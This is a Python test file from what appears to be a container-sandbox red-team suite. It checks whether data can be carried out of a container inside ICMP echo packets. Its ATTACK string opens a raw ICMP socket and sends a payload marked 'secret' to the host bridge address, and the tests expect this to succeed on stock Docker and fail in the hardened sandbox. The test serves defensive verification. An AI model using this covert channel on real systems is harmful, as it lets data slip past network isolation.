"""Carry data out in ICMP.

Way: container
Control: stock DockerSpawner
Held by: no interface but loopback
"""

from tests.redteam.stock import bridge_address

ATTACK = """
import socket
ping = socket.socket(socket.AF_INET, socket.SOCK_DGRAM, socket.IPPROTO_ICMP)
ping.settimeout(5)
ping.sendto(bytes.fromhex("0800f7fd00010001") + b"secret", (HOST, 0))
"""


def test_control_it_works_at_stock(stock_inside) -> None:
    outcome = stock_inside.python(f"HOST = {bridge_address()!r}\n" + ATTACK)
    assert outcome.worked, outcome.output


def test_nothing_is_sent(inside) -> None:
    outcome = inside.python(f"HOST = {bridge_address()!r}\n" + ATTACK)
    assert not outcome.worked
    assert "Network is unreachable" in outcome.output or "Permission denied" in outcome.output
